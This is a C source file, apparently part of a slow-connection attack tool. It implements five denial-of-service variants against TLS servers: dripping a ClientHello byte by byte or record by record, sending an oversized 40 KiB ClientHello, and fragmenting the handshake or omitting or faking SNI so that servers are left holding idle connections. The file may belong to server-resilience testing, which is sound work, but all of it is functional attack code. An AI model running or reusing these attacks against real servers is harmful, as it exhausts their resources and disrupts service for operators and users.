/*
 * slow_hello.c - attacks with ClientHellos (RFC 8446 4.1.2), which are OpenSSL's own, each with its
 * own random and key share: sent at once, a server would accept every one of them.
 *
 * Where the ClientHello gets complete the handshake goes on, so that a server that puts up with it
 * is left with an idle connection; the dripped one is meant never to get there, and keeps no TLS
 * state.
 */
#include <inttypes.h>
#include <stdio.h>
#include <string.h>

#include "base/rng.h"
#include "driver/slow.h"
#include "net/tls.h"

#define RECORD_HEAD 5
#define RECORD_MAX  16384

static struct ssl_st *make_hello(struct slow_conn *s, const char *name)
{
    buf_clear(&s->hello);
    return tls_hello(s->lane->job->ctx, name, &s->hello);
}

/* Leaves the handshake message alone, without the heads of the records that carried it. */
static void unwrap(struct buf *b)
{
    unsigned char *data = (unsigned char *)b->data;
    size_t from = 0, to = 0;

    while (from + RECORD_HEAD <= b->len) {
        size_t len = (size_t)data[from + 3] << 8 | data[from + 4];

        memmove(data + to, data + from + RECORD_HEAD, len);
        to += len;
        from += RECORD_HEAD + len;
    }
    b->len = to;
}

/* RFC 8446 5.1: a handshake message may be spread over records, in any pieces. */
static void say_record(struct slow_conn *s, const char *data, size_t len)
{
    unsigned char record[RECORD_HEAD + RECORD_MAX] = {0x16, 0x03, 0x01};

    record[3] = (unsigned char)(len >> 8);
    record[4] = (unsigned char)len;
    memcpy(record + RECORD_HEAD, data, len);
    slow_say(s, record, RECORD_HEAD + len);
}

static void say_piece(struct slow_conn *s)
{
    const struct slow_job *j = s->lane->job;
    size_t n = j->piece, at = s->at;

    if (n > s->hello.len - at)
        n = s->hello.len - at;
    if (n == 0)
        return;
    s->at += n;
    if (s->at == s->hello.len)
        s->next_ns = UINT64_MAX;
    if (j->opts->by == BY_RECORDS)
        say_record(s, s->hello.data + at, n);
    else
        slow_say(s, s->hello.data + at, n);
    if (s->op && s->at == s->hello.len)
        slow_secure(s);
}

static void begin_pieces(struct slow_conn *s)
{
    if (s->lane->job->opts->by == BY_RECORDS)
        unwrap(&s->hello);
    say_piece(s);
}

static void begin_drip(struct slow_conn *s)
{
    tls_free(make_hello(s, s->lane->job->route.name));
    begin_pieces(s);
}

static void begin_fragment(struct slow_conn *s)
{
    s->ssl = make_hello(s, s->lane->job->route.name);
    begin_pieces(s);
}

static void begin_whole(struct slow_conn *s, const char *name)
{
    s->ssl = make_hello(s, name);
    slow_say(s, s->hello.data, s->hello.len);
    if (!s->op)
        return;
    buf_free(&s->hello);
    slow_secure(s);
}

static void begin_oversize(struct slow_conn *s)
{
    begin_whole(s, s->lane->job->route.name);
}

static void begin_no_sni(struct slow_conn *s)
{
    begin_whole(s, NULL);
}

/* RFC 6761 6.4: no host has a name below `invalid`. */
static void begin_unknown_sni(struct slow_conn *s)
{
    char name[48];

    snprintf(name, sizeof(name), "unknown-%016" PRIx64 ".invalid", rng_next(&s->op->lane->rng));
    begin_whole(s, name);
}

static bool prepare_oversize(struct slow_job *j, struct job *job, struct err *e)
{
    (void)job;
    return tls_ctx_fill(j->ctx, j->size, e);
}

const struct slow_attack slow_hello_drip = {
    .name = "client-hello-drip",
    .brief = "a ClientHello in small pieces: bytes of its record, or records of their own",
    .takes = TAKES_EVERY | TAKES_PIECE | TAKES_BY,
    .every = INT64_C(1000000000),
    .piece = 1,
    .raw = true,
    .needs_tls = true,
    .reads = true,
    .begin = begin_drip,
    .follow = say_piece,
};

const struct slow_attack slow_hello_oversize = {
    .name = "client-hello-oversize",
    .brief = "a ClientHello of more than 32 KiB, in several records, at once",
    .takes = TAKES_SIZE,
    .size = 40 << 10,
    .raw = true,
    .needs_tls = true,
    .reads = true,
    .prepare = prepare_oversize,
    .begin = begin_oversize,
};

const struct slow_attack slow_hello_fragment = {
    .name = "client-hello-fragment",
    .brief = "a whole ClientHello in fragments that follow fast; then the handshake and silence",
    .takes = TAKES_EVERY | TAKES_PIECE | TAKES_BY,
    .every = 10000000,
    .piece = 64,
    .raw = true,
    .needs_tls = true,
    .reads = true,
    .begin = begin_fragment,
    .follow = say_piece,
};

const struct slow_attack slow_no_sni = {
    .name = "no-sni",
    .brief = "a ClientHello without a server name; then the handshake and silence",
    .raw = true,
    .needs_tls = true,
    .reads = true,
    .begin = begin_no_sni,
};

const struct slow_attack slow_unknown_sni = {
    .name = "unknown-sni",
    .brief = "a ClientHello for a name that nobody has; then the handshake and silence",
    .raw = true,
    .needs_tls = true,
    .reads = true,
    .begin = begin_unknown_sni,
};
